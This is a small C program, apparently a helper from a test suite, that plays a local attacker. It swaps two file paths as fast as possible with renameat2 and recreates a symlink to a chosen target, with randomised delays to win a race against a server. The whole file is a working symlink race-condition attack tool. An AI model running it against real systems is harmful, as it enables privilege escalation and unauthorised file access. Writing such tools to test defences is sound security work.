// exchange-loop A B [TARGET]: what a local attacker does. Exchanges the names A and B as fast as the system can, until it
// is killed. With TARGET, B is made anew as a link to it whenever neither of the two is a link any more.
// Says "ready" once the first exchange has worked, or why it did not.

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int is_link(const char *path) {
  struct stat stats;
  return lstat(path, &stats) == 0 && S_ISLNK(stats.st_mode);
}

static void make_link(const char *target, const char *path) {
  char fresh[4096];
  snprintf(fresh, sizeof fresh, "%s.fresh", path);
  unlink(fresh);
  if (symlink(target, fresh) == 0) rename(fresh, path);
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
    printf("no exchange: %s\n", strerror(errno));
    return 1;
  }
  puts("ready");
  fflush(stdout);
  unsigned seed = 1;
  for (;;) {
    renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
    if (argc > 3 && !is_link(argv[1]) && !is_link(argv[2])) make_link(argv[3], argv[2]);
    // Steps of one length could fall in with the server's.
    for (volatile unsigned spin = rand_r(&seed) % 20000; spin > 0;) spin = spin - 1;
    if (rand_r(&seed) % 64 == 0) usleep(50);
  }
}
